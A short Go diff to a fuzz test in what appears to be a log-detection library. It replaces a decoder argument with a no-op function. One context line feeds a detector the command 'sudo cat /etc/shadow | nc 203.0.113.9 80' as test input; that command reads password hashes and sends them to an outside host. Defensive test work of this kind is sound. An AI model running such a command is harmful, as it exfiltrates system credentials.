@@ -170,7 +170,7 @@ func FuzzKnowledge(f *testing.F) {
 	f.Fuzz(func(t *testing.T, data []byte) {
 		k, _ := NewKnowledge(KnowledgeFile{"x.knowledge", data})
 		r := NewReader(nil, k)
-		k.Test(func(*tocsin.Rule) bool { return true }, decodeSample)
+		k.Test(func(*tocsin.Rule) bool { return true }, func(string, []byte, func(*tocsin.Event)) error { return nil })
 		readCommand("sudo cat /etc/shadow | nc 203.0.113.9 80", anyShell, nil, &masker{know: k})
 		ev := &tocsin.Event{Sources: []tocsin.LogSource{{Product: "alert"}}, Fields: []tocsin.Field{{Name: "name", Value: "x"}}}
 		r.Read(ev, nil, func(*tocsin.Action) {})
